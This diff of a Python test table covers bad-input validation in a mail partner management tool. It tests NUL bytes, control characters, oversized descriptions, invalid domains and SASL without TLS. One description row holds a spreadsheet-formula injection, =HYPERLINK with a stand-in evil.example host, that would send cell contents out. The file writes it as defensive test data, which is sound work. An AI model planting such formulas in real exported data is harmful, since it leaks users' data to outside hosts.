@@ -6,6 +6,7 @@ import sqlite3
 
 import process
 from bad_inputs import row, unsafe_characters
+from bad_inputs_manifest import LONG_DESCRIPTION, NUL_IN_DESCRIPTION, NUL_IN_DOMAIN, sasl_without_tls
 from process import CONFLICT, DONE, REFUSED, USAGE
 
 # --- domains ------------------------------------------------------------------------------------------
@@ -154,7 +155,7 @@ DOMAIN = [
     row("Domain", "`a b.com`", bad_domain("a b.com", says=["' '"])),
     row("Domain", "`a.com` with a newline", bad_domain("a.com\n", "\na.com", "a\n.com", says=["U+000A"])),
     row("Domain", "with a NUL", stored(renamed_to("litwareinc\0.com"), ["primary domain", "U+0000", "domain-invalid"]),
-        waits_for="apply"),
+        NUL_IN_DOMAIN),
     row("Domain", "`*.a.com`", bad_domain("*.a.com", says=["wildcard"])),
     row("Domain", "`192.0.2.1`", bad_domain("192.0.2.1", says=["IP address"])),
     row("Domain", "`[::1]`", bad_domain("[::1]", says=["IP address"])),
@@ -236,7 +237,7 @@ ONE_MIB = "a" * (1 << 20)
 
 DESCRIPTION = [
     row("Description", "NUL", stored(described_as("a\0b"), ["description", "U+0000", "description-invalid"]),
-        waits_for="apply"),
+        NUL_IN_DESCRIPTION),
     row("Description", "ESC sequences", bad_description("\x1b[31mred", "a\x1b]0;title\x07", says=["U+001B"])),
     row("Description", "CR", bad_description("a\rb", "a\r\nb", says=["U+000D"])),
     row("Description", "U+009B", bad_description("a\u009b31m", says=["U+009B"])),
@@ -247,7 +248,7 @@ DESCRIPTION = [
         stored(described_as("a" * 1025), ["description", "1025"], schema_refuses=True)),
     # One word of a command line holds 128 KiB at most; what is longer comes from a file.
     row("Description", "1 MiB", bad_description("a" * 131_000, says=["131000"]),
-        stored(described_as(ONE_MIB), ["description", "1048576"], schema_refuses=True), waits_for="apply"),
+        stored(described_as(ONE_MIB), ["description", "1048576"], schema_refuses=True), LONG_DESCRIPTION),
     row("Description", "bytes `ff fe`", bad_description(b"\xff\xfe", b"a\xff\xfeb", says=["UTF-8"])),
     row("Description", "Accepted and shown harmlessly: `=HYPERLINK(…)`",
         shown_description('=HYPERLINK("http://evil.example/?"&A1,"click")')),
@@ -398,7 +399,7 @@ SASL_WITHOUT_TLS = [
         refused_for_tls(["edit", "litwareinc.com", "--sasl", "required"],
                         ["edit", "litwareinc.com", "--sasl", "optional"])),
     row("SASL without TLS", "two edits racing", racing_edits),
-    row("SASL without TLS", "manifest", waits_for="apply"),
+    row("SASL without TLS", "manifest", sasl_without_tls),
     row("SASL without TLS",
         "a row written past the program with SQL (the schema refuses it, and `store check` reports one that got in)",
         stored(["UPDATE partner SET sasl = 'required' WHERE primary_domain = 'litwareinc.com'"], NO_TLS,
@@ -407,20 +408,4 @@ SASL_WITHOUT_TLS = [
                schema_refuses=True)),
 ]
 
-# --- what waits ---------------------------------------------------------------------------------------
-
-
-def waiting(bullet, command, *items):
-    return [row(bullet, item, waits_for=command) for item in items]
-
-
-MANIFEST = waiting(
-    "Manifest", "apply", '`"tls"` twice', '`"tls"` and `"\\u0074ls"`', "100,000 `[`", "18446744073709551616", "1e400",
-    "NaN", "a comment", "a trailing comma", "BOM (accepted)", "UTF-16", "`{} {}`", "`\\ud800`", "an unknown key",
-    "truncated at every byte", "another `format_version` major", "an empty file", "a directory",
-    "a FIFO that never speaks",
-)
-
-ROWS = [
-    *DOMAIN, *DESCRIPTION, *ADDITIONAL, *ENUMERATIONS, *SASL_WITHOUT_TLS, *MANIFEST,
-]
+ROWS = [*DOMAIN, *DESCRIPTION, *ADDITIONAL, *ENUMERATIONS, *SASL_WITHOUT_TLS]
